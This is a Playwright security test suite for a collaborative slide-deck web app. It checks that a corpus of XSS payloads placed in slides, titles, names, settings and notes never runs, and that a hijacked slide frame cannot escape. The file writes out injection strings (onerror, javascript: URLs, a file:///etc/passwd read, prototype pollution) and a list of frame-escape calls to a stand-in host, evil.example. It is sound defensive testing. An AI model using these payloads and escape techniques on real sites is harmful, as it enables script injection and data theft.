/** What a deck, a name or a file holds never runs, never goes anywhere and never learns anything. */

import type { BrowserContext } from "@playwright/test";
import { WebSocket } from "ws";
import { WebsocketProvider } from "y-websocket";
import * as Y from "yjs";
import type { Person } from "../harness/person.ts";
import type { OndeckServer } from "../harness/server.ts";
import { expect, test } from "../harness/test.ts";
import { attacksAt, careless, CORPUS, EVIL, FAMILIES } from "../harness/xss/corpus.ts";
import { settings } from "../harness/xss/settings.ts";
import { leftovers, numberIn, stir, Watch } from "../harness/xss/watch.ts";

/** A picture that the deck names, on its last slide: when it is asked for, all before it has happened. */
const LAST = `${EVIL}/last.png`;
/** Slides as an author writes them, and the end. */
const END = `\n\n---\n\n# The end\n\n<img src="${LAST}" alt="last">\n`;

type Links = { follow: string; remote: string };

async function links(server: OndeckServer, deck: string): Promise<Links> {
  return (await (await fetch(`${server.url}/api/decks/${deck}/links`)).json()) as Links;
}

/** What a page of ours is made of, and slides are not. */
const OWN = "form.row, form.form, form.call-form, form.talk-compose, [data-test=ask-panel] :is(form, input), input.day-other, label input, .palette input, input[type=file], iframe.slides-frame, script[src^='/assets/'], script[type='application/json'], #app > template";

/** Looks that nothing on a page of ours has become more than text. */
async function pageIsClean({ name, page }: Person, selector = "body"): Promise<void> {
  expect(await page.evaluate(leftovers, { selector, own: OWN }), `left on ${name}'s page`).toEqual([]);
}

/** Lets somebody come whom everything is seen of that happens in their browser. */
async function watched(one: Person): Promise<[Person, Watch]> {
  // Each attack that is stopped is a complaint of the browser's.
  one.expects(/./);
  return [one, await Watch.over(one.page.context(), one.url)];
}

/** Until the last picture was asked for, and every picture has loaded or failed. */
async function settled(one: Person): Promise<void> {
  await (await one.slides.frame()).evaluate(async () => {
    const pictures = [...document.images].filter((image) => image.loading !== "lazy" && image.src !== "");
    await Promise.all(pictures.map((image) => image.decode().catch(() => undefined)));
    for (let frames = 0; frames < 2; frames++) await new Promise(requestAnimationFrame);
  });
}

/** Asks the server as the page of a person does. */
async function asks<Answer>({ page, url }: Person, method: string, path: string, data?: object | string): Promise<Answer> {
  const kind = typeof data === "string" ? "text/markdown" : "application/json";
  const answer = await page.request.fetch(url + path, { method, data, headers: { origin: url, "content-type": kind } });
  const text = await answer.text();
  expect(answer.ok(), `${method} ${path}: ${answer.status()} ${text}`).toBe(true);
  return (text && JSON.parse(text)) as Answer;
}

/** Goes over everything there with the mouse and the focus, and looks that it is text. */
async function goesOver(one: Person, selector = "body"): Promise<void> {
  await one.page.evaluate((selector) => {
    for (const element of document.querySelectorAll(`:is(${selector}) *`)) {
      for (const type of ["mouseover", "mouseenter", "mousemove", "pointerover", "focusin"]) element.dispatchEvent(new Event(type, { bubbles: true }));
    }
  }, selector);
  await pageIsClean(one, selector);
}

/** A text as it stands between quotation marks of a selector. */
const quoted = (text: string) => text.replace(/["\\]/g, "\\$&");

/** A name of 22 signs for something new. */
const newId = (number: number) => `${number}`.padStart(22, "0");

/** What stands in a line: titles and names. */
const LINES = [...attacksAt("title"), ...attacksAt("name")];

async function nothingHappened([one, watch]: [Person, Watch]): Promise<void> {
  const { name, page } = one;
  expect([...watch.fired].map((id) => CORPUS[id] ?? id), `what ran at ${name}'s`).toEqual([]);
  expect(watch.seen, `what else happened at ${name}'s`).toEqual([]);
  expect(await watch.isWhole(page), `globals at ${name}'s`).toBe(true);
  expect(page.context().pages(), `windows of ${name}`).toHaveLength(1);
}

/** Pokes at every element of the slides, and looks that nothing is left that could run. */
async function pokeSlides(one: Person): Promise<void> {
  const frame = await one.slides.frame();
  expect(await frame.evaluate(leftovers, { selector: ".slides, .backgrounds", own: "" }), `left at ${one.name}'s`).toEqual([]);
  // A click with Ctrl follows links in the preview as well.
  for (const ctrl of [true, false]) {
    expect(await frame.evaluate(stir, { selector: ".slides *, .backgrounds *", ctrl })).toBeGreaterThan(20);
  }
}

/** So many attacks there are at least. */
const LEAST = 300;

test("without defences the attacks do what they are meant to", async ({ browser }) => {
  expect(CORPUS.length).toBeGreaterThanOrEqual(LEAST);
  const context = await browser.newContext();
  const { fired, fetched } = await unprotected(context);
  const working = (name: string) =>
    CORPUS.filter(({ family, id }) => family === name && (fired.has(id) || fetched.has(id))).length;
  const short = () => FAMILIES.filter(({ name, fires }) => working(name) < fires).map(({ name }) => `${name}: ${working(name)}`);
  await expect.poll(short).toEqual([]);
  for (const { name, attacks } of FAMILIES) console.log(`${working(name)} of ${attacks.length} ${name}`);
  console.log(`${fired.size} of ${CORPUS.length} ran, ${fetched.size} asked another server`);
  await context.close();
});

/** Puts each attack into a page of its own that takes it as it is. */
async function unprotected(context: BrowserContext): Promise<{ fired: Set<number>; fetched: Set<number> }> {
  const fired = new Set<number>();
  const fetched = new Set<number>();
  await context.exposeBinding("fired", (_, id: number) => fired.add(id));
  context.on("page", (page) => page.on("popup", (popup) => void popup.close()));
  await context.route(/^https?:/, async (route) => {
    const id = numberIn(route.request().url());
    if (id !== null && route.request().resourceType() !== "image") fetched.add(id);
    await route.fulfill({ body: "<!doctype html><body>", contentType: "text/html; charset=utf-8" });
  });
  const page = await context.newPage();
  await page.goto("http://careless.example/");
  await page.evaluate(loadAll, { pages: CORPUS.map(careless), stir: String(stir) });
  return { fired, fetched };
}

/** Opens each page in a frame that may do all but take the page of the test away; runs in the browser. */
async function loadAll({ pages, stir }: { pages: string[]; stir: string }): Promise<void> {
  const loads = pages.map((srcdoc) => new Promise<void>((resolve) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts allow-same-origin allow-forms allow-popups allow-modals");
    frame.addEventListener("load", () => {
      // Some are somewhere else by now.
      try {
        (frame.contentWindow as unknown as { eval(program: string): void }).eval(`(${stir})({ selector: "*", ctrl: false })`);
      } catch { /* Its page has done what it was meant to. */ }
      resolve();
    }, { once: true });
    frame.srcdoc = srcdoc;
    document.body.append(frame);
  }));
  await Promise.all(loads);
}

/** Decks of a usual length hold so many. */
const PARTS = 3;

for (let part = 0; part < PARTS; part++) test(`what stands on slides does nothing to anybody, part ${part + 1} of ${PARTS}`, async ({ person, server }) => {
  const attacks = attacksAt("body").filter((_, number) => number % PARTS === part);
  const bodies = attacks.map(({ id, text }) => `# Attack ${id}\n\n${text}`);
  const deck = await server.deck(bodies.join("\n\n---\n\n") + END);
  const [ann, pia, fay, rob] = await Promise.all(["Ann", "Pia", "Fay", "Rob"].map(async (name) => watched(await person(name))));
  const { remote } = await links(server, deck);
  const all = [ann!, pia!, fay!];
  await Promise.all([ann![0].writes(deck), pia![0].presents(deck), fay![0].follows(deck), rob![0].opens(remote)]);
  for (const [one, watch] of all) {
    await expect(one.slides.all.last()).toContainText("The end");
    await expect(one.slides.all).toHaveCount(bodies.length + 1);
    await expect.poll(() => watch.pictures).toContain(LAST);
    await settled(one);
    watch.settle(one.page);
    await pokeSlides(one);
  }
  for (const seen of all) await nothingHappened(seen);

  // Those who follow can read it as text.
  const [reader, watch] = fay!;
  await reader.press("t");
  await expect(reader.page.locator(".text-slides section").last()).toContainText("The end");
  expect(await reader.page.evaluate(leftovers, { selector: ".text-slides", own: "" })).toEqual([]);
  const selector = ".text-slides :not(a[href^='http'], a[href^='http'] *)";
  expect(await reader.page.evaluate(stir, { selector, ctrl: false })).toBeGreaterThan(100);
  await nothingHappened([reader, watch]);
  await reader.press("t");

  // The phone shows notes, and the slides in a frame as well.
  await expect(rob![0].page.getByTestId("remote-next")).toBeVisible();
  rob![1].settle(rob![0].page);
  await nothingHappened(rob!);

  // Once more by typing, which takes another way than loading.
  const [editor] = ann!;
  await editor.editor.caretAfter("# The end");
  await editor.editor.insert(`\n\n${bodies.slice(0, 60).join("\n\n---\n\n")}\n\n---\n\n# Typed`);
  for (const [one] of all) await expect(one.slides.all.last()).toContainText("Typed");
  for (const [one] of all) await settled(one);
  for (const seen of all) await nothingHappened(seen);
});

test("attributes of slides and elements do nothing, slide by slide", async ({ person, server }) => {
  const later = attacksAt("body").filter(({ family }) => family.startsWith("elements that reveal"));
  const slides = [
    ...attacksAt("attribute").map(({ id, text }) => `<!-- .slide: ${text} -->\n\n# Attack ${id}`),
    ...later.map(({ id, text }) => `# Attack ${id}\n\n${text}`),
  ];
  const deck = await server.deck(slides.join("\n\n---\n\n") + END);
  const all = await Promise.all(["Ann", "Pia", "Fay"].map(async (name) => watched(await person(name))));
  const [ann, pia, fay] = all.map(([one]) => one);
  await Promise.all([ann!.writes(deck), pia!.presents(deck), fay!.follows(deck)]);
  for (const [one, watch] of all) watch.settle(one.page);
  // Where the presenter goes the audience comes along; what a slide holds back it loads now.
  const position = pia!.page.getByTestId("slide-position");
  const place = async () => [await position.textContent(), await pia!.slides.current.locator(".fragment.visible").count()].join();
  for (let before = await place(); !before.startsWith(`${slides.length + 1}/`); before = await place()) {
    await pia!.page.keyboard.press("PageDown");
    // Another slide, or another step; some turn the page by themselves, as authors may have them do.
    await expect.poll(place).not.toBe(before);
  }
  for (const one of [pia!, fay!]) await expect(one.slides.current).toContainText("The end");
  await ann!.editor.caretAfter("# The end");
  await expect(ann!.slides.current).toContainText("The end");
  for (const seen of all) {
    await settled(seen[0]);
    await pokeSlides(seen[0]);
    await nothingHappened(seen);
  }
});

test("settings of a deck do nothing, whichever value they have", async ({ person, server }) => {
  const values = attacksAt("settings");
  const deck = await server.deck(settings("plain", "Variant start"));
  const all = await Promise.all(["Ann", "Pia", "Fay", "Rob"].map(async (name) => watched(await person(name))));
  const [ann, pia, fay, rob] = all.map(([one]) => one);
  const { remote } = await links(server, deck);
  await Promise.all([ann!.writes(deck), pia!.presents(deck), fay!.follows(deck), rob!.opens(remote)]);
  for (const [one, watch] of all) watch.settle(one.page);
  for (const { id, text } of values) {
    const marker = `Variant ${id}`;
    await ann!.editor.replaceAll(settings(text, marker));
    await expect(ann!.page.getByTestId("title")).toContainText(marker);
    for (const one of [ann!, pia!, fay!]) await expect(one.slides.locator(".slides")).toContainText(marker);
    await expect(fay!.page).toHaveTitle(new RegExp(marker));
  }
  for (const seen of all) await nothingHappened(seen);
  // What comes with the page itself, not over the socket.
  const [reader, watch] = await watched(await person("Reader"));
  for (const { id, text } of values) {
    const other = await server.deck(settings(text, `Variant ${id}`));
    await reader.page.goto(server.url + (await links(server, other)).follow, { waitUntil: "domcontentloaded" });
    expect(await reader.page.title()).toContain(`Variant ${id}`);
  }
  await nothingHappened([reader, watch]);
});

test("titles do nothing in lists, in tabs and on pages", async ({ person, server }) => {
  const titles = attacksAt("title");
  for (const { text } of titles) await server.deck(`---\ntitle: '${text.replaceAll("'", "''")}'\n---\n\n# ${text}\n`);
  const [hal, seen] = await watched(await person("Hal"));
  await hal.opens("/");
  await expect(hal.page.getByTestId("deck")).toHaveCount(titles.length);
  seen.settle(hal.page);
  await pageIsClean(hal);
  await hal.page.locator("main").hover();
  await nothingHappened([hal, seen]);

  const deck = await server.deck(titles.map(({ text }) => `# ${text}\n\nTime: 1 min`).join("\n\n---\n\n") + END);
  const [ann, watch] = await watched(await person("Ann"));
  await ann.writes(deck);
  await expect(ann.page.getByTestId("outline-row")).toHaveCount(titles.length + 1);
  await ann.page.keyboard.press("Control+k");
  await expect(ann.page.getByTestId("palette")).toBeVisible();
  await ann.page.keyboard.type("script");
  await pageIsClean(ann);
  await nothingHappened([ann, watch]);
});

test("names of people and files do nothing", async ({ person, server }) => {
  const deck = await server.deck("# Names\n\nText.\n");
  const all = await Promise.all(["Ann", "Pia"].map(async (name) => watched(await person(name))));
  const [ann, pia] = all.map(([one]) => one);
  await Promise.all([ann!.writes(deck), pia!.presents(deck)]);
  for (const [one, watch] of all) watch.settle(one.page);
  const names = attacksAt("name");
  const peers = names.map(({ text }) => joins(server, deck, text));
  await expect(ann!.editor.carets).toHaveCount(names.length);
  const called = names.map(({ text }) => passedOn(text)).sort();
  await expect.poll(async () => (await ann!.editor.carets.allTextContents()).sort()).toEqual(called);
  for (const caret of await ann!.editor.carets.all()) await caret.dispatchEvent("mouseover");
  for (const seen of all) {
    await pageIsClean(seen[0]);
    await nothingHappened(seen);
  }
  for (const end of peers) end();

  const [hal, watch] = await watched(await person("Hal"));
  await hal.opens("/");
  for (const { text } of attacksAt("file")) {
    // Larger than any deck, so that the page has to say which file it was.
    const file = { name: text, mimeType: "text/markdown", buffer: Buffer.alloc(5 * 1024 * 1024, "x") };
    await hal.page.getByTestId("import-file").setInputFiles(file);
    await hal.hears(text);
  }
  await pageIsClean(hal);
  await nothingHappened([hal, watch]);
});

/** A name as the server passes it on. */
function passedOn(name: string): string {
  return [...name.replaceAll("\u{202e}", "")].slice(0, 40).join("").trim();
}

/** Somebody with another program, which says what it likes; gives how they leave. */
function joins(server: OndeckServer, deck: string, name: string): () => void {
  const doc = new Y.Doc();
  const provider = new WebsocketProvider(`ws://${server.address}/sync`, deck, doc, {
    WebSocketPolyfill: WebSocket as never,
    disableBc: true,
  });
  // The server takes the name that a program says first.
  provider.awareness.setLocalStateField("user", { name, color: `red;background:url(${EVIL})`, colorLight: "\"><svg onload=fired(0)>" });
  provider.on("sync", () => {
    const place = Y.createRelativePositionFromTypeIndex(doc.getText("source"), 1);
    provider.awareness.setLocalStateField("cursor", { anchor: place, head: place });
  });
  return () => {
    provider.destroy();
    doc.destroy();
  };
}

test("names of series and of those who report do nothing on the first page and in its dialogs", async ({ person }) => {
  const [hal, seen] = await watched(await person("Hal"));
  await hal.opens("/");
  await expect(hal.page.getByTestId("me")).toBeVisible();
  const names = attacksAt("title");
  const sections = LINES.map(({ text }) => `# ${text}\n\nReport by`).join("\n\n---\n\n");
  const tasks = LINES.map(({ text }) => `- [ ] Open ${text}`).join("\n");
  const made: string[] = [];
  for (const [index, { text }] of names.entries()) {
    const { id } = await asks<{ id: string }>(hal, "POST", "/api/decks", `---\ntitle: Template\n---\n\n${index === 0 ? sections : ""}\n`);
    // Of the first one a call is due.
    const cadence = index === 0 ? { every: "week", day: "thu" } : { every: "none" };
    await asks(hal, "PUT", `/api/decks/${id}/series`, { name: text, cadence, time: "14:05", zone: "UTC" });
    made.push(id);
  }
  const page = hal.page;
  await hal.opens("/");
  await expect(page.getByTestId("group")).toHaveCount(names.length);
  await expect(page.getByTestId("call-title")).toHaveText(names[0]!.text);
  await goesOver(hal);

  // The last call, with people who report; and one that is coming.
  const [last, coming] = await Promise.all(["# The last", "# The next"].map((head) => asks<{ id: string }>(hal, "POST", "/api/decks", `${head}\n\n${tasks}\n\n---\n\n${sections}\n`)));
  for (const { id } of [last!, coming!]) {
    const { sections } = await asks<{ sections: { id: string }[] }>(hal, "GET", `/api/decks/${id}/board`);
    const people = attacksAt("name");
    for (const [index, { text }] of people.entries()) await asks(hal, "POST", `/api/decks/${id}/sections/${sections[index + 1]!.id}`, { reporter: text });
  }
  await asks(hal, "PUT", `/api/decks/${last!.id}/call`, { at: "2020-01-02T14:05", series: made[0] });
  await asks(hal, "PUT", `/api/decks/${coming!.id}/call`, { at: "2099-01-08T14:05", series: made[0] });
  await hal.opens("/");
  await expect(page.getByTestId("call-title")).toHaveText("The next");
  await expect(page.getByTestId("reporter").first()).toBeVisible();
  seen.settle(page);
  await goesOver(hal);
  const dialog = page.getByRole("dialog");
  const called = new Set<string>();
  for (let index = 0; index < names.length; index++) {
    await page.getByTestId("series-settings").nth(index).click();
    called.add(await dialog.getByTestId("series-name").inputValue());
    await pageIsClean(hal);
    await page.keyboard.press("Escape");
    await expect(dialog).toHaveCount(0);
  }
  expect([...called].sort()).toEqual(names.map(({ text }) => text).sort());
  const first = page.getByTestId("group").filter({ has: page.getByRole("heading", { name: names[0]!.text, exact: true }) });
  await first.getByTestId("new-call").click();
  await expect(dialog).toContainText(names[0]!.text);
  await expect(dialog.getByTestId("call-reporter")).not.toHaveCount(0);
  await expect(dialog.getByTestId("carried-item")).not.toHaveCount(0);
  await goesOver(hal, "[role=dialog], dialog");
  await nothingHappened([hal, seen]);
});

test("what is said and asked beside the slides does nothing in panels and minutes", async ({ person, server }) => {
  const deck = await server.deck(LINES.map(({ text }) => `# ${text}`).join("\n\n---\n\n"));
  const { follow } = await links(server, deck);
  const all = await Promise.all(["Ann", "Pia", "Fay"].map(async (name) => watched(await person(name))));
  const [ann, pia, fay] = all.map(([one]) => one) as [Person, Person, Person];
  await Promise.all([ann.writes(deck), pia.presents(deck), fay.follows(deck)]);
  for (const [one, watch] of all) watch.settle(one.page);
  for (const [number, { text }] of LINES.entries()) {
    const about = { slide: text, name: text, text };
    await asks(ann, "POST", `/api/decks/${deck}/discussion`, { id: newId(number), ...about });
    await asks(ann, "PUT", `/api/decks/${deck}/discussion/${newId(number)}`, { starred: true });
    await asks(fay, "POST", `${follow}/questions`, { id: newId(LINES.length + number), number, ...about });
    // Somebody else each time.
    const there = await fetch(`${server.url}${follow}/attendance`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ name: text }) });
    expect(there.status).toBe(200);
  }
  const texts = LINES.map(({ text }) => text).sort();
  const said = async (one: Person) => (await one.page.getByTestId("call-panel").getByTestId("talk-text").allTextContents()).sort();
  for (const one of [ann, pia]) {
    await one.page.getByTestId("talk").click();
    await one.page.getByTestId("talk-show-questions").click();
    await expect.poll(() => said(one)).toEqual(texts);
    await one.page.getByTestId("talk-show-all").click();
    await expect.poll(() => said(one)).toEqual([...texts, ...texts].sort());
    await goesOver(one);
  }
  // The bar that it is opened with goes by itself, but not with the focus in it.
  await fay.page.getByTestId("ask").focus();
  await fay.page.getByTestId("ask").click();
  await expect(fay.page.getByTestId("ask-question")).toHaveCount(LINES.length);
  await goesOver(fay, "[data-test=ask-panel]");

  await pia.press("ArrowRight");
  await pia.page.getByTestId("end").click();
  await pia.page.getByTestId("minutes").click();
  const minutes = pia.page.getByTestId("minutes-text");
  await expect(minutes).toContainText(`## Attendance (${LINES.length})`);
  await expect(minutes).toContainText("\\<script\\>fired");
  await goesOver(pia);
  await pia.page.getByTestId("minutes-language").selectOption("de");
  await expect(minutes).toHaveAttribute("lang", "de");
  await goesOver(pia);
  for (const seen of all) await nothingHappened(seen);
});

test("names of those who write a section do nothing on the board and in the outline", async ({ person, server }) => {
  const names = attacksAt("name").map(({ text }) => text);
  const team = (name: string, reporter: string) => `# ${name}\n\nReport by ${reporter}\n\n- x`;
  const deck = await server.deck([...names.map((_, index) => team(`Claimed ${index}`, "")), ...names.map((_, index) => team(`Asked ${index}`, "")),
    ...names.map((name, index) => team(`Written ${index}`, name))].join("\n\n---\n\n"));
  const [[ann, annSees], [bob, bobSees]] = await Promise.all([watched(await person("Ann")), watched(await person("Bob"))]);
  const [sue, sueSees] = await watched(await person("Sue", { stranger: true }));
  await ann.writes(deck);
  await bob.opens(`/d/${deck}/board`);
  const { sections } = await asks<{ sections: { id: string }[] }>(ann, "GET", `/api/decks/${deck}/board`);
  for (const [index, name] of names.entries()) {
    await asks(ann, "POST", `/api/decks/${deck}/sections/${sections[index]!.id}`, { claim: true, name });
    await asks(ann, "POST", `/api/decks/${deck}/sections/${sections[names.length + index]!.id}`, { reporter: name });
  }
  const peers = names.map((name) => joins(server, deck, name));
  const twice = [...names, ...names];
  await expect.poll(() => bob.page.getByTestId("board-reporter").allTextContents()).toEqual(expect.arrayContaining(names));
  for (const name of names) await expect(bob.page.getByTestId("here").getByLabel(passedOn(name), { exact: true })).toHaveCount(1);
  await expect.poll(async () => (await ann.page.getByTestId("outline-row").getByTestId("reporter").allTextContents()).length).toBeGreaterThanOrEqual(twice.length);
  // Who comes for the first time is asked which section is theirs.
  await sue.opens(`/d/${deck}`);
  await sue.editor.ready();
  const introduction = sue.page.getByTestId("introduction");
  await introduction.getByTestId("name").fill(names[0]!);
  await introduction.getByTestId("name").press("Enter");
  await expect(sue.page.getByTestId("which-choice")).toHaveCount(3 * names.length);
  const all: [Person, Watch][] = [[ann, annSees], [bob, bobSees], [sue, sueSees]];
  for (const [one, watch] of all) watch.settle(one.page);
  for (const seen of all) {
    await goesOver(seen[0]);
    await nothingHappened(seen);
  }
  for (const end of peers) end();
});

test("names of those whom a deck is shared with do nothing in the dialog", async ({ person }) => {
  const [ann, seen] = await watched(await person(LINES[3]!.text));
  await ann.opens("/");
  await expect(ann.page.getByTestId("me")).toBeVisible();
  const { id } = await asks<{ id: string }>(ann, "POST", "/api/decks", "# Shared\n");
  const texts = LINES.map(({ text }) => text);
  const subjects = [...texts.map((text) => `group:${text}`), ...texts.filter((text) => !/\s/.test(text)).map((text) => `email:${text}@a.example`)];
  for (const subject of subjects) await asks(ann, "PUT", `/api/decks/${id}/people`, { subject, role: "viewer" });
  await ann.writes(id);
  seen.settle(ann.page);
  await ann.page.getByTestId("share").click();
  const people = ann.page.getByTestId("person");
  await expect(people).toHaveCount(subjects.length + 1);
  await goesOver(ann);
  // Each change says in words what was done with whom.
  for (const text of texts.filter((_, index) => index % 6 === 0)) {
    const row = ann.page.locator(`[data-subject="${quoted(`group:${text}`)}"]`);
    await row.getByTestId("role").selectOption("editor");
    await expect(ann.page.getByTestId("said")).toContainText(text);
    await pageIsClean(ann, "[data-test=share-dialog]");
    await row.getByTestId("remove-person").click();
    await expect(row).toHaveCount(0);
  }
  await goesOver(ann);
  await nothingHappened([ann, seen]);
});

test("notes do nothing on the phone and beside the slides, whatever they hold", async ({ person, server }) => {
  const deck = await server.deck(LINES.map(({ id, text }) => `# ${text}\n\nNote:\nAttack ${id}: ${text}`).join("\n\n---\n\n"));
  const all = await Promise.all(["Pia", "Rob"].map(async (name) => watched(await person(name))));
  const [pia, rob] = all.map(([one]) => one) as [Person, Person];
  await Promise.all([pia.presents(deck), rob.opens((await links(server, deck)).remote)]);
  await expect(rob.page.getByTestId("remote-next")).toBeVisible();
  for (const [one, watch] of all) watch.settle(one.page);
  for (const { id } of LINES) {
    await expect(pia.page.getByTestId("notes")).toContainText(`Attack ${id}:`);
    await expect(rob.page.getByTestId("remote-notes")).toContainText(`Attack ${id}:`);
    for (const [one, notes] of [[pia, "notes"], [rob, "remote-notes"]] as const) {
      expect(await one.page.getByTestId(notes).locator("*").count(), `elements in ${one.name}'s notes`).toBe(0);
    }
    await rob.page.getByTestId("remote-next").click();
  }
  for (const seen of all) {
    await goesOver(seen[0]);
    await nothingHappened(seen);
  }
});

test("the source and the data of a deck are nothing to run when they are opened", async ({ person, server }) => {
  const source = attacksAt("body").slice(0, 60).map(({ text }) => text).join("\n\n");
  const deck = await server.deck(`<!doctype html><script>fired(0)</script>\n\n${source}`);
  const [ann, watch] = await watched(await person("Ann"));
  const { follow } = await links(server, deck);
  for (const path of [`/api/decks/${deck}/source`, `/api/decks/${deck}`, "/api/decks", `/api/decks/${deck}/minutes`, `/api/decks/${deck}/discussion`,
    `/api/decks/${deck}/attendance`, `/api/decks/${deck}/board`, `/api/decks/${deck}/sharing`, `${follow}/deck`, `${follow}/qr.svg`]) {
    const answer = await fetch(server.url + path);
    expect(answer.headers.get("content-security-policy"), path).toContain("sandbox");
    expect(answer.headers.get("x-content-type-options"), path).toBe("nosniff");
    expect(answer.headers.get("content-type"), path).not.toContain("html");
    // A browser that does not show a kind of file offers it to be kept, which somebody asked for here.
    await ann.page.goto(server.url + path).catch(() => undefined);
  }
  expect([...watch.fired]).toEqual([]);
  expect(watch.seen.filter((what) => !what.startsWith("download"))).toEqual([]);
});

test("a frame that was taken over can do nothing to the page around it", async ({ person, server }) => {
  const deck = await server.deck("# One\n\n---\n\n# Two\n");
  const all = await Promise.all(["Ann", "Pia", "Fay"].map(async (name) => watched(await person(name))));
  const [ann, pia, fay] = all.map(([one]) => one);
  await Promise.all([ann!.writes(deck), pia!.presents(deck), fay!.follows(deck)]);
  for (const [one, watch] of all) {
    const address = one.page.url();
    // Nobody but the frame gets a port.
    expect(await one.page.evaluate(() => new Promise((resolve) => {
      window.addEventListener("message", ({ ports }) => resolve(ports.length), { once: true });
      window.postMessage({ type: "hello" }, "*");
    }))).toBe(0);
    const frame = await one.slides.frame();
    await frame.evaluate(takeOver, `${EVIL}/taken`);
    // Answers to what the frame says are there before this one.
    await one.page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
    expect(one.page.url()).toBe(address);
    await nothingHappened([one, watch]);
  }
  expect(await server.source(deck)).toBe("# One\n\n---\n\n# Two\n");
});

/** Says everything to the page that a program in the frame could say; runs in the frame. */
async function takeOver(evil: string): Promise<void> {
  const port = await new Promise<MessagePort>((resolve) => {
    window.addEventListener("message", ({ ports: [port] }) => port && resolve(port));
    window.parent.postMessage({ type: "hello" }, "*");
  });
  const texts = ["javascript:parent.fired(0)", " javascript:fired(0)", "data:text/html,<script>opener.fired(0)</script>",
    "blob:null/x", "file:///etc/passwd", "about:blank", "//evil.example", "/", "x".repeat(1_000_000), "<img src=x: onerror=fired(0)>"];
  for (const text of texts) {
    for (const type of ["link", "key", "error", "click", "slide", "overflow", "port", "hello", "deck", text]) {
      port.postMessage({ type, href: text, key: text, message: text, index: text, fragment: text, line: text, slides: [text] });
    }
  }
  for (const odd of [null, 0, "x", [], { type: null }, { type: { toString: 1 } }, { type: "slide", index: 1e300, fragment: -1e300 },
    { type: "overflow", slides: Array.from({ length: 10_000 }, () => 1e9) }, { type: "place", index: Number.NaN, fragments: -1 },
    JSON.parse('{"__proto__":{"polluted":1},"type":"slide","constructor":{"prototype":{"polluted":1}}}')]) {
    port.postMessage(odd);
    window.parent.postMessage(odd, "*");
  }
  // The ways out that the sandbox and the policy close. (It can ask for pictures, and nobody but the
  // deck's authors learns so what only they know.)
  const ways: (() => unknown)[] = [
    () => { window.parent.location.href = evil; },
    () => { window.top!.location.replace(evil); },
    () => window.open(evil),
    () => window.open("javascript:fired(0)", "_parent"),
    () => window.parent.document.cookie,
    () => fetch(evil),
    () => new WebSocket(evil.replace("http", "ws")),
    () => new EventSource(evil),
    () => navigator.sendBeacon(evil, "x"),
    () => new Worker("data:text/javascript,fetch('https://evil.example')"),
    () => navigator.serviceWorker.register("/assets/x.js"),
    () => import(/* @vite-ignore */ evil),
    () => alert(1),
    () => print(),
    () => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>top.fired(0)</script>" })),
    () => document.body.append(Object.assign(document.createElement("script"), { src: evil })),
    () => document.body.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: evil })),
    () => document.body.append(Object.assign(document.createElement("a"), { href: evil, ping: evil, download: "x" })),
    () => {
      const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: evil, method: "post" }));
      form.submit();
    },
  ];
  for (const way of ways) {
    try {
      await Promise.race([way(), Promise.resolve()]);
    } catch {
      // It is closed.
    }
  }
}

test("a page of another site cannot put our pages or slides into a frame", async ({ browser, server }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const deck = await server.deck("# Hi\n");
  const paths = ["/", `/d/${deck}`, "/slides.html", (await links(server, deck)).follow];
  await page.route("http://thief.example/", (route) => route.fulfill({
    body: paths.map((path) => `<iframe src="${server.url}${path}"></iframe>`).join(""), contentType: "text/html",
  }));
  await page.goto("http://thief.example/");
  expect(page.frames()).toHaveLength(1 + paths.length);
  for (const frame of page.frames().slice(1)) expect(frame.url()).toMatch(/^(chrome-error:|about:blank)/);
  await context.close();
});
